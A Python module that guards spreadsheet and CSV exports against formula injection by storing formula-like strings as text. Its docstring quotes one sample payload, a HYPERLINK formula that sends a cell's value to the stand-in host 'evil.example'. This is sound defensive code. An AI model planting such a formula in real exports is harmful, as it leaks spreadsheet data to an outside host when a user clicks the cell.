"""Cells of the spreadsheets the app writes: text a spreadsheet program would run as a
formula (=, +, -, @, a tab or a carriage return at its start) is written as text.

A roster name such as `=HYPERLINK("http://evil.example/"&A1,"click")` would otherwise
be a live formula in the export and the error workbook (OWASP "CSV injection"). In a
workbook the cell is typed as a string and carries Excel's quote prefix, so its value is
exactly the name (an export imports again unchanged) and it stays text when edited; in
a CSV, which has no types, a leading apostrophe marks it as text.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """`sheet.append(values)`, with every formula-like string stored as plain text."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if formula_like(cell.value):
            cell.data_type = "s"
            cell.quotePrefix = True


def csv_text(value: Any) -> Any:
    """A CSV field that no spreadsheet program will run as a formula."""
    return "'" + value if formula_like(value) else value
